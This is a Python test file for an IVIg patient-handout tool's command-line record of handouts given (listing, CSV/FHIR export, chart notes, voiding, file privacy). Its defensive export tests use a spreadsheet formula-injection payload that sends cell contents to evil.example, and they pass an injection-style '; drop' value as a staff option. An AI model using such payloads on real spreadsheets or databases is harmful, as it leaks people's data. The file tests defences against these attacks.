"""The education record on the command line: `build` and `one-pager` for a named patient add rows (only
once the PDF is written), `record list`, `record export` and `record note` read them; output and exit
codes, on real SQLite files."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
from hashlib import sha256
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from ivig_handout.api import documents
from ivig_handout.apps.cli import main
from ivig_handout.apps.recording import MAX_ID, read
from ivig_handout.export.sinks import record as record_module
from ivig_handout.export.sinks.record import Given, Record, chart_note, open_record
from ivig_handout.export.spreadsheet import FORMULA_LEADS

from ..conftest import device, umask
from ..export.test_record import schema, version_1_file
from ..pgserver import PgServer

NAME = "Ana Souza"
SRC = Path(__file__).resolve().parents[2] / "src"


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args])


def one_error(result: Result) -> str:
    assert result.exit_code == 1, (result.output, result.exception)
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "Traceback" not in result.stderr
    return lines[0]


def clinic(tmp_path: Path, record_names: str) -> Path:
    path = tmp_path / "clinic.yaml"
    path.write_text(f"name: Springfield Neurology\nrecord_names: {record_names}\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A record with the full sheet and the GBS one-pager, each made for a named patient (names on)."""
    tmp = tmp_path_factory.mktemp("record")
    db = tmp / "record.sqlite3"
    profile = clinic(tmp, "yes")
    sheet = run("build", "--patient-name", NAME, "--by", "AB", "--clinic", profile, "--record-db", db,
                "-o", tmp / "sheet.pdf")
    assert sheet.exit_code == 0, sheet.output
    assert sheet.stdout == (f"wrote {tmp / 'sheet.pdf'} (4 pages, letter)\nrecorded as handout 1 in {db} "
                            "(`ivig-handout record note 1` prints the line for the chart)\n")
    gbs = run("one-pager", "gbs", "--layout", "a4", "--patient-name", NAME, "--clinic", profile, "--record-db", db,
              "-o", tmp / "gbs.pdf")
    assert gbs.exit_code == 0, gbs.output
    return db


def test_build_for_a_named_patient_is_listed(made: Path) -> None:
    listed = run("record", "list", "--record-db", made)
    assert listed.exit_code == 0 and listed.stderr == ""
    head, first, second = listed.stdout.splitlines()
    assert head.split() == ["ID", "WHEN", "DOCUMENT", "LAYOUT", "COPIES", "EDITION", "PRINTED", "ON", "BY", "PATIENT"]
    edition = Record(made).get(1).edition
    assert first.split()[:1] + first.split()[3:] == ["1", "full", "letter", "1", "2012", edition, "-", "AB", "Ana",
                                                     "Souza"]
    assert second.split()[:1] + second.split()[3:] == ["2", "gbs", "a4", "1", "2012", edition, "-", "-", "Ana", "Souza"]
    today = run("record", "list", "--since", "today", "--record-db", made)
    assert today.stdout == listed.stdout
    future = run("record", "list", "--since", "2999-01-01", "--record-db", made)
    assert (future.exit_code, future.stdout) == (0, "no handouts recorded since 2999-01-01\n")


def test_record_list_json(made: Path) -> None:
    listed = run("record", "list", "--json", "--record-db", made)
    assert listed.exit_code == 0
    rows = json.loads(listed.stdout)
    assert [(r["id"], r["document"], r["kind"], r["layout"], r["by"], r["patient"]) for r in rows] == [
        (1, "full", "full-sheet", "letter", "AB", NAME), (2, "gbs", "one-pager", "a4", None, NAME)]
    assert rows[1]["title"] == "IVIg for Guillain-Barré syndrome (GBS)" and rows[1]["source_year"] == 2012
    assert rows[0]["sha256"] == sha256((made.parent / "sheet.pdf").read_bytes()).hexdigest()


def test_record_note(made: Path) -> None:
    noted = run("record", "note", "2", "--record-db", made)
    assert noted.exit_code == 0
    assert noted.stdout == chart_note(Record(made).get(2)) + "\n"
    assert noted.stdout.startswith('Gave the AAN handout "IVIg for Guillain-Barré syndrome (GBS)", a4, 2012 edition ')
    assert NAME not in noted.stdout
    missing = one_error(run("record", "note", "99", "--record-db", made))
    assert missing == f"error: no handout number 99 in the record {made} (see `ivig-handout record list`)"
    assert run("record", "note", "two", "--record-db", made).exit_code == 2


def test_record_export_csv_and_fhir(made: Path, tmp_path: Path) -> None:
    from fhir.resources.R4B.bundle import Bundle

    as_csv = run("record", "export", "--format", "csv", "--record-db", made)
    assert as_csv.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert [(r["id"], r["document"], r["patient"]) for r in rows] == [("1", "full", NAME), ("2", "gbs", NAME)]
    with umask(0o022):
        written = run("record", "export", "--format", "fhir", "--since", "today", "-o", tmp_path / "today.json",
                      "--record-db", made)
    assert written.exit_code == 0 and written.stdout == ""
    assert written.stderr == f"wrote {tmp_path / 'today.json'} (2 handouts, fhir)\n"
    assert stat.S_IMODE((tmp_path / "today.json").stat().st_mode) == 0o600  # it holds names
    bundle = json.loads((tmp_path / "today.json").read_text(encoding="utf-8"))
    assert len(Bundle.model_validate(bundle).entry) == 2
    assert [e["resource"]["subject"]["display"] for e in bundle["entry"]] == [NAME, NAME]
    assert run("record", "export", "--record-db", made).exit_code == 2  # --format is required
    assert run("record", "export", "--format", "xml", "--record-db", made).exit_code == 2


def test_without_names_the_record_and_its_exports_hold_none(tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    made = run("one-pager", "mg", "--patient-name", NAME, "--clinic", clinic(tmp_path, "no"), "--record-db", db,
               "-o", tmp_path / "mg.pdf")
    assert made.exit_code == 0, made.output
    assert NAME.encode() not in b"".join(p.read_bytes() for p in tmp_path.glob("record.sqlite3*"))
    listed = run("record", "list", "--record-db", db)
    assert "PATIENT" not in listed.stdout and "mg" in listed.stdout
    with umask(0o022):
        assert run("record", "export", "--format", "csv", "-o", tmp_path / "all.csv", "--record-db", db).exit_code == 0
    assert stat.S_IMODE((tmp_path / "all.csv").stat().st_mode) == 0o644  # no names: the umask decides
    assert list(csv.DictReader(io.StringIO((tmp_path / "all.csv").read_text(encoding="utf-8"))))[0]["patient"] == ""


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request: pytest.FixtureRequest, tmp_path: Path) -> Path | str:
    """Issue 24: a new record on each backend (an SQLite file; a new database of the session's server)."""
    if request.param == "sqlite":
        return tmp_path / "record.sqlite3"
    server: PgServer = request.getfixturevalue("pg_server")
    return server.url(server.database())


def test_every_handout_for_a_named_patient_gets_a_row(tmp_path: Path, db: Path | str) -> None:
    out = tmp_path / "out"
    unnamed = run("one-pager", "--all", "--out-dir", out, "--record-db", db)
    assert unnamed.exit_code == 0 and read(db, None) == []  # no name: nothing recorded
    assert not isinstance(db, Path) or not db.exists()  # (no record file made)
    named = run("one-pager", "--all", "--patient-name", NAME, "--by", "CD", "--out-dir", out, "--record-db", db)
    assert named.exit_code == 0, named.output
    entries = open_record(db).entries()
    assert [e.document for e in entries] == documents(None, "one-pager") and len(entries) == 12
    assert {e.sha256 for e in entries} == {sha256((out / f"ivig-{e.document}-letter.pdf").read_bytes()).hexdigest()
                                           for e in entries}
    assert {e.by for e in entries} == {"CD"} and {e.patient for e in entries} == {None}  # no profile: names off
    assert named.stdout.endswith(f"recorded as handouts 1 to 12 in {db} (`ivig-handout record note 1` prints the "
                                 "line for the chart)\n")


def test_a_failing_write_records_nothing(tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    full = device(tmp_path / "full", 7)  # every write fails: the disk is full
    error = one_error(run("one-pager", "gbs", "--patient-name", NAME, "--record-db", db, "-o", full))
    assert "the disk is full" in error
    assert Record(db).entries() == []


@pytest.mark.parametrize("bad", ["folder", "garbage", "read-only"])
def test_a_bad_record_db_is_one_error_and_writes_nothing(tmp_path: Path, bad: str) -> None:
    db = tmp_path / "record.sqlite3"
    if bad == "folder":
        db.mkdir()
    elif bad == "garbage":
        db.write_bytes(b"\x00garbage" * 100)
    else:
        Record(db)
        db.chmod(0o444)
    made = run("build", "--patient-name", NAME, "--record-db", db, "-o", tmp_path / "sheet.pdf")
    assert one_error(made).startswith(f"error: {db}: ")
    assert not (tmp_path / "sheet.pdf").exists()
    listed = run("record", "list", "--record-db", db)
    if bad == "read-only":  # reading it needs no writing (test_read_only_records)
        assert (listed.exit_code, listed.stdout) == (0, "no handouts recorded\n")
    else:
        assert one_error(listed).startswith(f"error: {db}: ")


def test_option_mistakes(tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    no_name = run("one-pager", "gbs", "--by", "AB", "--record-db", db, "-o", tmp_path / "gbs.pdf")
    assert no_name.exit_code == 2 and "--by goes with --patient-name" in no_name.stderr
    bad_by = one_error(run("one-pager", "gbs", "--patient-name", NAME, "--by", "A B; drop", "--record-db", db,
                           "-o", tmp_path / "gbs.pdf"))
    assert bad_by.startswith("error: --by: give the staff member's initials")
    assert not (tmp_path / "gbs.pdf").exists() and not db.exists()
    bad_day = run("record", "list", "--since", "2026-13-01", "--record-db", db)
    assert bad_day.exit_code == 2 and "give YYYY-MM-DD (such as 2026-12-01) or today" in bad_day.stderr


def test_reading_never_makes_a_record(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert run("record", "list").stdout == "no handouts recorded\n"
    assert run("record", "list", "--json").stdout == "[]\n"
    assert json.loads(run("record", "export", "--format", "fhir").stdout) == {"resourceType": "Bundle",
                                                                           "type": "collection"}
    db = tmp_path / "data" / "ivig-handout" / "record.sqlite3"
    assert one_error(run("record", "note", "1")) == f"error: no handout number 1: there is no record at {db} yet"
    assert not (tmp_path / "data").exists()


def test_the_default_record_is_in_the_data_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert run("one-pager", "cidp", "--patient-name", NAME, "-o", tmp_path / "cidp.pdf").exit_code == 0
    db = tmp_path / "data" / "ivig-handout" / "record.sqlite3"
    assert [e.document for e in Record(db).entries()] == ["cidp"]
    listed = run("record", "list", "--json")
    assert [r["document"] for r in json.loads(listed.stdout)] == ["cidp"]
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT version FROM schema_version").fetchall() == [(5,)]
    conn.close()


def test_with_the_pdf_on_stdout_the_record_line_goes_to_stderr(tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    made = run("one-pager", "gbs", "--patient-name", NAME, "--record-db", db, "-o", "-")
    assert made.exit_code == 0, made.stderr
    assert made.stdout_bytes.startswith(b"%PDF-") and made.stdout_bytes.rstrip().endswith(b"%%EOF")
    assert f"recorded as handout 1 in {db}" in made.stderr
    assert Record(db).get(1).sha256 == sha256(made.stdout_bytes).hexdigest()


# --- issue 19: exports that open safely, bounded arguments, the record file --------------------------

HOSTILE = 'HYPERLINK("http://evil.example/?"&A1,"click")'
TEXT_COLUMNS = ("title", "printer", "job_id", "by", "patient")


def hostile_row(db: Path, value: str) -> None:
    """A row whose every free-text column is ``value`` (as a roster, a printer or an older version may
    have put there: the options themselves collapse tabs and line breaks)."""
    Record(db).add(Given("gbs", "one-pager", "letter", 2, "ab" * 32, "c3ad53", 2012, printer=value, job_id=value,
                         by=value, patient=value, title=value))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_patient_named_like_a_formula_is_exported_as_text(tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    made = run("one-pager", "gbs", "--patient-name", "=" + HOSTILE, "--clinic", clinic(tmp_path, "yes"),
               "--record-db", db, "-o", tmp_path / "gbs.pdf")
    assert made.exit_code == 0, made.output
    assert Record(db).get(1).patient == "=" + HOSTILE  # the record keeps the name as it was given
    exported = run("record", "export", "--format", "csv", "--record-db", db)
    assert exported.exit_code == 0
    [row] = csv_rows(exported.stdout)
    assert (row["id"], row["document"], row["patient"]) == ("1", "gbs", "'=" + HOSTILE)


@pytest.mark.parametrize("lead", sorted(FORMULA_LEADS), ids=repr)
def test_record_export_csv_neutralises_each_formula_lead(tmp_path: Path, lead: str) -> None:
    db = tmp_path / "record.sqlite3"
    hostile_row(db, lead + HOSTILE)
    shown = run("record", "export", "--format", "csv", "--record-db", db)
    written = run("record", "export", "--format", "csv", "--record-db", db, "-o", tmp_path / "all.csv")
    assert shown.exit_code == written.exit_code == 0
    on_disk = (tmp_path / "all.csv").read_bytes().decode("utf-8")
    assert on_disk == shown.stdout_bytes.decode("utf-8")  # (Result.stdout turns CRLF into LF)
    [row] = csv_rows(on_disk)
    assert {row[column] for column in TEXT_COLUMNS} == {"'" + lead + HOSTILE}
    assert (row["id"], row["copies"], row["source_year"]) == ("1", "2", "2012")  # numbers stay numbers


@pytest.mark.parametrize("number", [str(MAX_ID + 1), "99999999999999999999999999", "0", "-1",
                                    str(-MAX_ID - 2)])
def test_record_note_out_of_range_is_a_usage_error(made: Path, number: str) -> None:
    noted = run("record", "note", "--record-db", made, "--", number)  # (without --, -1 is an unknown option)
    assert noted.exit_code == 2 and noted.stdout == ""
    assert noted.stderr.splitlines()[-1] == (f"Error: Invalid value for 'ID': {number} is not in the range "
                                             f"1<=x<={MAX_ID}.")
    assert "Traceback" not in noted.stderr and "unexpected" not in noted.stderr
    assert run("record", "note", number, "--record-db", made).exit_code == 2


def test_record_note_up_to_sqlites_largest_id(made: Path) -> None:
    assert MAX_ID == record_module.MAX_ID == 2**63 - 1
    assert one_error(run("record", "note", str(MAX_ID), "--record-db", made)) == (
        f"error: no handout number {MAX_ID} in the record {made} (see `ivig-handout record list`)")


@pytest.mark.parametrize("command", [["list"], ["export", "--format", "csv"], ["export", "--format", "fhir"]])
@pytest.mark.parametrize(("day", "why"), [
    ("0001-01-01", "is too early; give a day from 1970-01-01 on, or today"),
    ("1969-12-31", "is too early; give a day from 1970-01-01 on, or today"),
    ("10000-01-01", "is not a date; give YYYY-MM-DD (such as 2026-12-01) or today"),
    ("-2026-01-01", "is not a date; give YYYY-MM-DD (such as 2026-12-01) or today"),
    ("9999-12-32", "is not a date; give YYYY-MM-DD (such as 2026-12-01) or today"),
])
def test_record_since_out_of_range_is_a_usage_error(made: Path, command: list[str], day: str, why: str) -> None:
    result = run("record", *command, f"--since={day}", "--record-db", made)
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.splitlines()[-1] == f"Error: Invalid value for '--since': '{day}' {why}"


def test_record_since_the_first_and_last_days(made: Path) -> None:
    everything = run("record", "list", "--json", "--record-db", made)
    first = run("record", "list", "--json", "--since", "1970-01-01", "--record-db", made)
    assert first.exit_code == 0 and first.stdout == everything.stdout and len(json.loads(first.stdout)) == 2
    last = run("record", "list", "--since", "9999-12-31", "--record-db", made)
    assert (last.exit_code, last.stdout) == (0, "no handouts recorded since 9999-12-31\n")
    exported = run("record", "export", "--format", "csv", "--since", "9999-12-31", "--record-db", made)
    assert exported.exit_code == 0 and csv_rows(exported.stdout) == []


def test_an_existing_record_others_can_read_is_made_private_before_a_name_goes_in(tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    assert run("one-pager", "mg", "--patient-name", NAME, "--record-db", db, "-o", tmp_path / "a.pdf").exit_code == 0
    db.chmod(0o644)
    made = run("one-pager", "gbs", "--patient-name", NAME, "--clinic", clinic(tmp_path, "yes"), "--record-db", db,
               "-o", tmp_path / "b.pdf")
    assert made.exit_code == 0, made.output
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    assert [e.patient for e in Record(db).entries()] == [None, NAME]


@pytest.mark.parametrize("command", [["build"], ["one-pager", "gbs"]])
def test_a_record_without_a_column_stops_a_named_handout_before_its_pdf(tmp_path: Path, command: list[str]) -> None:
    db = tmp_path / "record.sqlite3"
    Record(db)
    with sqlite3.connect(db) as conn:
        conn.execute("ALTER TABLE given DROP COLUMN patient")
    conn.close()
    made = run(*command, "--patient-name", NAME, "--record-db", db, "-o", tmp_path / "handout.pdf")
    assert one_error(made) == (f"error: {db}: the record's table 'given' has no column 'patient'; restore the file "
                               "from a backup or give another file")
    assert made.stdout == "" and sorted(p.name for p in tmp_path.iterdir()) == ["record.sqlite3"]


# A read-only record: read by `record list`, `export` and `note`, never written, migrated or made

def read_commands(db: Path) -> dict[str, list[str]]:
    return {"list": ["record", "list", "--json", "--record-db", str(db)],
            "csv": ["record", "export", "--format", "csv", "--record-db", str(db)],
            "note": ["record", "note", "2", "--record-db", str(db)]}


def check_read(db: Path, outputs: dict[str, str]) -> None:
    assert [(r["id"], r["document"], r["patient"]) for r in json.loads(outputs["list"])] == [
        (1, "full", NAME), (2, "gbs", NAME)]
    assert [(r["id"], r["patient"]) for r in csv_rows(outputs["csv"])] == [("1", NAME), ("2", NAME)]
    assert outputs["note"].startswith('Gave the AAN handout "IVIg for Guillain-Barré syndrome (GBS)", a4, ')


def test_read_only_record_file(made: Path, tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    shutil.copyfile(made, db)
    db.chmod(0o444)
    before = (db.read_bytes(), db.stat().st_mtime_ns, sorted(os.listdir(tmp_path)))
    outputs = {}
    for what, args in read_commands(db).items():
        result = run(*args)
        assert result.exit_code == 0 and result.stderr == "", (what, result.output)
        outputs[what] = result.stdout
    check_read(db, outputs)
    assert (db.read_bytes(), db.stat().st_mtime_ns, sorted(os.listdir(tmp_path))) == before  # no -wal, no -shm
    exported = run("record", "export", "--format", "fhir", "--record-db", db, "-o", tmp_path / "out.json")
    assert exported.exit_code == 0 and len(json.loads((tmp_path / "out.json").read_text())["entry"]) == 2


def test_reading_a_writable_record_leaves_its_folder_as_it_was(made: Path, tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    shutil.copyfile(made, db)
    before = (db.read_bytes(), db.stat().st_mtime_ns, sorted(os.listdir(tmp_path)))
    outputs = {what: run(*args).stdout for what, args in read_commands(db).items()}
    check_read(db, outputs)
    assert (db.read_bytes(), db.stat().st_mtime_ns, sorted(os.listdir(tmp_path))) == before  # no -wal, -shm left


def test_reading_an_older_record_leaves_it_as_it_was(tmp_path: Path) -> None:
    db = tmp_path / "old.sqlite3"
    version_1_file(db)  # schema version 1, not in WAL mode: opening it to write would migrate it
    before = db.read_bytes()
    listed = run("record", "list", "--json", "--record-db", db)
    assert [r["document"] for r in json.loads(listed.stdout)] == ["mg"]
    assert run("record", "note", "1", "--record-db", db).stdout.startswith('Gave the AAN handout "IVIg for Myasthenia')
    assert db.read_bytes() == before and schema(db) == (1, set())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.sqlite3"]


def in_read_only_folder(folder: Path, args: list[str]) -> subprocess.CompletedProcess[str]:
    """``ivig-handout ARGS`` in its own process, for which ``folder`` is read-only: a 0555 folder for a
    user; for root (whom modes do not stop) a read-only bind mount in a mount namespace of its own."""
    command = [sys.executable, "-m", "ivig_handout", *args]
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)
        finally:
            folder.chmod(0o755)
    script = ('mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" || exit 90; '
              'touch "$1/probe" 2>/dev/null && exit 91; shift; exec "$@"')
    done = subprocess.run(["unshare", "--map-root-user", "--mount", "sh", "-c", script, "sh", str(folder), *command],
                          env=env, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode != 91, "the bind mount left the folder writable"
    if done.returncode == 90:
        pytest.skip(f"running as root, and no read-only bind mount can be made here: {done.stderr.strip()}")
    return done


def test_read_only_record_folder(made: Path, tmp_path: Path) -> None:
    if os.geteuid() == 0:  # root: a mount namespace of its own, where it may bind-mount
        if shutil.which("unshare") is None:
            pytest.skip("running as root, and unshare (util-linux) is missing to make a read-only folder")
        probe = subprocess.run(["unshare", "--map-root-user", "--mount", "true"], capture_output=True, text=True,
                               timeout=60, check=False)
        if probe.returncode != 0:
            pytest.skip(f"running as root, and unshare cannot make a mount namespace here: {probe.stderr.strip()}")
    folder = tmp_path / "records"
    folder.mkdir()
    db = folder / "record.sqlite3"
    shutil.copyfile(made, db)
    db.chmod(0o600)
    before = (db.read_bytes(), db.stat().st_mtime_ns, sorted(os.listdir(folder)))
    outputs = {}
    for what, args in read_commands(db).items():
        result = in_read_only_folder(folder, args)
        assert result.returncode == 0 and result.stderr == "", (what, result.stderr)
        outputs[what] = result.stdout
    check_read(db, outputs)
    assert (db.read_bytes(), db.stat().st_mtime_ns, sorted(os.listdir(folder))) == before


@pytest.mark.parametrize("command", [["list"], ["export", "--format", "csv"], ["note", "1"]])
@pytest.mark.parametrize("name", ["a" * 300, "a/" * 3000])
def test_a_record_db_name_too_long_is_one_line(tmp_path: Path, command: list[str], name: str) -> None:
    db = tmp_path / name
    error = one_error(run("record", *command, "--record-db", db))
    assert error == f"error: {db}: the record cannot be read (File name too long)"


def test_the_same_handout_made_again_is_a_reprint_and_record_list_says_so(tmp_path: Path, db: Path | str) -> None:
    """Issue 20: the same one-pager made again for the same patient is recorded as a reprint of the first
    (the command says so); a voided row and a reprint are marked in `record list` and its JSON."""
    for n in (1, 2):
        made = run("one-pager", "mg", "--patient-name", NAME, "--date", "1 December 2026", "--record-db", db,
                   "-o", tmp_path / f"mg-{n}.pdf")
        assert made.exit_code == 0, made.output
    assert "recorded as handout 2, a reprint of handout 1 in" in made.stdout
    open_record(db).void(1, "AB")
    head, *lines = run("record", "list", "--record-db", db).stdout.splitlines()
    assert head.split()[-1] == "STATUS"
    assert lines[0].split()[-4:-2] == ["VOID", "(AB"] and lines[1].endswith("reprint of 1")
    listed = json.loads(run("record", "list", "--json", "--record-db", db).stdout)
    assert [(r["reprint_of"], r["void_by"]) for r in listed] == [(None, "AB"), (1, None)]
    assert run("record", "note", "1", "--record-db", db).stdout.startswith("VOID (undone by AB on ")
    assert run("record", "note", "2", "--record-db", db).stdout.rstrip().endswith(", a reprint of handout 1")


def test_record_void(tmp_path: Path, db: Path | str) -> None:
    """`record void ID --by AB`: the row stays, marked void with who and when; again: already void."""
    assert run("one-pager", "mg", "--patient-name", NAME, "--record-db", db, "-o", tmp_path / "mg.pdf").exit_code == 0
    done = run("record", "void", "1", "--by", "AB", "--record-db", db)
    assert done.exit_code == 0 and done.stdout.startswith("handout 1 is void (undone by AB on ")
    again = run("record", "void", "1", "--by", "CD", "--record-db", db)
    assert again.exit_code == 0 and again.stdout.startswith("handout 1 is already void (undone by AB on ")
    [entry] = open_record(db).entries()
    assert (entry.void_by, entry.document) == ("AB", "mg")
    assert one_error(run("record", "void", "2", "--by", "AB", "--record-db", db)).startswith(
        "error: no handout number 2 in the record")
    assert run("record", "void", "1", "--by", " ", "--record-db", db).exit_code == 2
    assert run("record", "void", "1", "--record-db", db).exit_code == 2
    assert one_error(run("record", "void", "1", "--by", "A B", "--record-db", db)).startswith("error: --by: give")


def test_the_record_can_be_named_by_the_environment(tmp_path: Path) -> None:
    """Issue 24: IVIG_HANDOUT_RECORD_DB names the record (a file here) when --record-db is not given."""
    db = tmp_path / "desk.sqlite3"
    env = {"IVIG_HANDOUT_RECORD_DB": str(db)}
    made = CliRunner().invoke(main, ["one-pager", "mg", "--patient-name", NAME, "-o", str(tmp_path / "mg.pdf")],
                              env=env)
    assert made.exit_code == 0, made.output
    assert made.stdout.splitlines()[-1].startswith(f"recorded as handout 1 in {db} ")
    assert [e.document for e in Record(db).entries()] == ["mg"]
    listed = CliRunner().invoke(main, ["record", "list", "--json"], env=env)
    assert [r["document"] for r in json.loads(listed.stdout)] == ["mg"]
    other = tmp_path / "other.sqlite3"  # --record-db wins
    assert CliRunner().invoke(main, ["record", "list", "--record-db", str(other)], env=env).stdout == (
        "no handouts recorded\n")
